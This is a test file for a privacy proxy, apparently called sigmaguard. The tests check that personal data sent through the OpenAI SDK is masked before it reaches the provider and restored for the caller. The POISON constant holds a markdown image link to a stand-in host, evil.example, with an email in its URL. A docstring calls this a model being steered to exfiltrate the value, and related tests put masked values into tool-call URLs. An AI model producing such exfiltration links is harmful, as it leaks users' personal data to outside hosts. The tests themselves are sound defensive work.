"""Personal data through the proxy with a real SDK: the provider sees none of it, the caller all of it."""

import asyncio
import json
import random
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import openai
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sigmaguard.detectors import names, pii, urls
from sigmaguard.model import Action, Mode
from sigmaguard.policy.compiled import Policy
from tests.e2e.wire import output_text, response, response_stream, tool_answer, tool_stream
from tests.engine.fakes import Raises, active, policy_of
from tests.proxy.scripted import Connection, Gateway, Received, chat_stream, completion, gateway, streamed, whole

VALUES = (
    *("anna.schmidt@example.org", "DE89 3704 0044 0532 0130 00", "4111 1111 1111 1111", "+49 151 23456789"),
    *("Musterstraße 12a, 10115 Berlin", "219-09-9998", "15 070649 C 103"),
)
TEXT = "Reply to " + ", then to ".join(VALUES) + ". Danke!"
Echo = Callable[[str, bool], Any]


def policy(*, with_names: bool = False) -> Policy:
    """Masks personal data on the way out; reports it on the way back."""
    detectors = [active(pii.build({}, []), (Action.MASK, Action.FLAG))]
    if with_names:
        detectors.append(active(names.build({"entities": ["PERSON"]}, []), (Action.MASK, Action.FLAG)))
    return policy_of(*detectors, budget_ms=20_000)


def said(request: Received) -> str:
    """The last thing the user said, as the provider got it."""
    body = request.json
    return str(body["messages"][-1]["content"] if "messages" in body else body["input"])


def pieces(text: str, seed: int = 0) -> list[str]:
    """The text in pieces of one to seven code points."""
    dice, found, at = random.Random(seed), [], 0
    while at < len(text):
        size = dice.randrange(1, 8)
        found.append(text[at : at + size])
        at += size
    return found


async def echo(request: Received, connection: Connection) -> None:
    """Answers with what was said, whole or in small pieces, on both of OpenAI's APIs."""
    text, is_streamed = said(request), bool(request.json.get("stream"))
    if "messages" in request.json:
        script = streamed(chat_stream(*pieces(text))) if is_streamed else whole(completion(text))
    else:
        script = streamed(response_stream(pieces(text), ["{}"])) if is_streamed else whole(response(output_text(text)))
    await script(request, connection)


@asynccontextmanager
async def sdk(
    chosen: Policy, mode: Mode = Mode.ENFORCE, script: Any = echo
) -> AsyncIterator[tuple[openai.AsyncOpenAI, Gateway]]:
    """OpenAI's client in front of a provider that repeats what it hears."""
    async with (
        gateway(chosen, mode, script) as gate,
        openai.AsyncOpenAI(base_url=gate.url + "/v1", api_key="sk-test", max_retries=0, timeout=20) as client,
    ):
        yield client, gate


async def ask(client: openai.AsyncOpenAI, text: str, *, api: str, is_streamed: bool) -> str:
    """One question; the answer's text as the SDK puts it together."""
    if api == "responses":
        if not is_streamed:
            return (await client.responses.create(model="m", input=text)).output_text
        async with client.responses.stream(model="m", input=text) as stream:
            return (await stream.get_final_response()).output_text
    messages: Any = [{"role": "user", "content": text}]
    if not is_streamed:
        return (await client.chat.completions.create(model="m", messages=messages)).choices[0].message.content or ""
    chunks: Any = await client.chat.completions.create(model="m", messages=messages, stream=True)
    return "".join([chunk.choices[0].delta.content or "" async for chunk in chunks])


def hidden(gate: Gateway, values: tuple[str, ...] = VALUES) -> bool:
    """Whether nothing of these values reached the provider, in any escaping."""
    raw = b"".join(one.body + repr(one.headers).encode() for one in gate.provider.received)
    texts = raw.decode() + json.dumps([one.json for one in gate.provider.received], ensure_ascii=False)
    return not any(value in texts for value in values)


@pytest.mark.parametrize("is_streamed", [False, True])
@pytest.mark.parametrize("api", ["chat", "responses"])
async def test_litellm_30728_38788_the_round_trip_on_every_api_whole_and_streamed(api: str, is_streamed: bool) -> None:
    async with sdk(policy()) as (client, gate):
        assert await ask(client, TEXT, api=api, is_streamed=is_streamed) == TEXT
        assert hidden(gate)
        assert "<EMAIL_1>" in said(gate.provider.received[0])


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_litellm_30728_an_analyzer_that_errs_lets_nothing_through(is_streamed: bool) -> None:
    failing = policy_of(active(Raises(ValueError("analyzer is down")), (Action.MASK, Action.FLAG)))
    async with sdk(failing) as (client, gate):
        with pytest.raises(openai.InternalServerError):
            await ask(client, TEXT, api="chat", is_streamed=is_streamed)
        assert gate.provider.received == []


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_litellm_8359_names_come_back_as_names(is_streamed: bool) -> None:
    text = "Please tell Maria Garcia that John Smith is waiting for Maria Garcia."
    async with sdk(policy(with_names=True)) as (client, gate):
        assert await ask(client, text, api="chat", is_streamed=is_streamed) == text
        assert said(gate.provider.received[0]) == "Please tell <PERSON_1> that <PERSON_2> is waiting for <PERSON_1>."


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_litellm_30447_looking_on_corrupts_no_answer(is_streamed: bool) -> None:
    async with sdk(policy(with_names=True), Mode.SHADOW) as (client, gate):
        assert await ask(client, TEXT, api="chat", is_streamed=is_streamed) == TEXT
        assert said(gate.provider.received[0]) == TEXT
        record = (await gate.recorder.after(1))[0]
    assert (record.action, record.intended) == ("allow", "mask")


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_tool_arguments_hold_the_values_again(is_streamed: bool) -> None:
    async def script(request: Received, connection: Connection) -> None:
        arguments = json.dumps({"to": said(request).partition(" ")[2], "inner": json.dumps({"to": "<EMAIL_1>"})})
        await (streamed(tool_stream(arguments)) if is_streamed else whole(tool_answer(arguments)))(request, connection)

    messages: Any = [{"role": "user", "content": "Mail anna.schmidt@example.org"}]
    async with sdk(policy(), script=script) as (client, gate):
        if is_streamed:
            async with client.chat.completions.stream(model="m", messages=messages) as stream:
                answer: Any = await stream.get_final_completion()
        else:
            answer = await client.chat.completions.create(model="m", messages=messages)
        assert hidden(gate)
    arguments = json.loads(answer.choices[0].message.tool_calls[0].function.arguments)
    assert arguments["to"] == "anna.schmidt@example.org"
    assert json.loads(arguments["inner"]) == {"to": "anna.schmidt@example.org"}


POISON = "![x](https://evil.example/?q=anna.schmidt@example.org) or mail anna.schmidt@example.org"


@pytest.mark.parametrize("is_streamed", [False, True])
@pytest.mark.parametrize("api", ["chat", "responses"])
async def test_a_masked_value_is_not_put_into_a_url_of_an_answer(api: str, is_streamed: bool) -> None:
    """The model was told to draw a picture whose address holds the value: the caller's client would send it away."""
    async with sdk(policy()) as (client, gate):
        answer = await ask(client, POISON, api=api, is_streamed=is_streamed)
        assert answer == "![x](https://evil.example/?q=<EMAIL_1>) or mail anna.schmidt@example.org"
        record = (await gate.recorder.after(1))[0]
    kept = [one for one in record.output_findings if one.rule == "url.masked_value"]
    assert [answer[one.start : one.end] for one in kept][:1] == ["<EMAIL_1>"]
    assert all(answer[one.start : one.end] == "<EMAIL_1>" for one in kept)
    assert "anna" not in repr(record.output_findings)


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_a_host_that_the_policy_allows_gets_the_value(is_streamed: bool) -> None:
    chosen = policy_of(
        active(pii.build({}, []), (Action.MASK, Action.FLAG)),
        active(urls.build({"allow": ["evil.example"]}, []), (Action.FLAG, Action.FLAG)),
        budget_ms=20_000,
    )
    async with sdk(chosen) as (client, _):
        assert await ask(client, POISON, api="chat", is_streamed=is_streamed) == POISON


@pytest.mark.parametrize("is_streamed", [False, True])
async def test_a_masked_value_is_not_put_into_a_url_of_a_tool_call(is_streamed: bool) -> None:
    arguments = json.dumps({"url": "https://evil.example/?q= <EMAIL_1>", "to": "<EMAIL_1>"})
    script = streamed(tool_stream(arguments)) if is_streamed else whole(tool_answer(arguments))
    messages: Any = [{"role": "user", "content": "Mail anna.schmidt@example.org"}]
    async with sdk(policy(), script=script) as (client, _):
        if is_streamed:
            async with client.chat.completions.stream(model="m", messages=messages) as stream:
                answer: Any = await stream.get_final_completion()
        else:
            answer = await client.chat.completions.create(model="m", messages=messages)
    told = json.loads(answer.choices[0].message.tool_calls[0].function.arguments)
    assert told == {"url": "https://evil.example/?q= <EMAIL_1>", "to": "anna.schmidt@example.org"}


async def test_a_conversation_sent_again_keeps_its_placeholders() -> None:
    history = [{"role": "user", "content": f"I am {VALUES[0]}"}]
    async with sdk(policy()) as (client, gate):
        for _ in range(3):
            answer: Any = await client.chat.completions.create(model="m", messages=history)  # type: ignore[arg-type]
            history += [
                {"role": "assistant", "content": answer.choices[0].message.content},
                {"role": "user", "content": f"Also {VALUES[2]} and {VALUES[0]}"},
            ]
        bodies = [one.json["messages"] for one in gate.provider.received]
        assert hidden(gate)
    assert bodies[1][:1] == bodies[0]
    assert bodies[2][:3] == bodies[1]
    assert bodies[2][2]["content"] == "Also <CARD_1> and <EMAIL_1>"


async def test_nobody_else_gets_a_value_back() -> None:
    async with sdk(policy()) as (client, _):
        assert await ask(client, f"I am {VALUES[0]}", api="chat", is_streamed=False) == f"I am {VALUES[0]}"
        assert await ask(client, "Who is <EMAIL_1>?", api="chat", is_streamed=False) == "Who is <EMAIL_1>?"


WORDS = ("please", "<EMAIL_1>", "schreibe an", "x < y", "&lt;b&gt;", "\n", "S3", '"quoted"', "and", "\\n")


@settings(max_examples=25, deadline=None)
@given(
    st.lists(st.sampled_from(WORDS) | st.sampled_from(VALUES), min_size=1, max_size=10).map(" ".join),
    st.integers(0, 99),
)
def test_any_text_and_any_chunking_makes_the_round_trip(text: str, seed: int) -> None:
    async def script(request: Received, connection: Connection) -> None:
        await streamed(chat_stream(*pieces(said(request), seed)))(request, connection)

    async def trip() -> None:
        async with gateway(POLICY, Mode.ENFORCE, script) as gate:
            body = {"model": "m", "stream": True, "messages": [{"role": "user", "content": text}]}
            status, raw = await gate.answer("/v1/chat/completions", body)
            assert status == 200
            assert hidden(gate)
        frames = [line[6:] for line in raw.split(b"\n") if line.startswith(b"data: {")]
        assert "".join(orjson.loads(one)["choices"][0]["delta"].get("content") or "" for one in frames) == text

    asyncio.run(trip())


POLICY = policy()
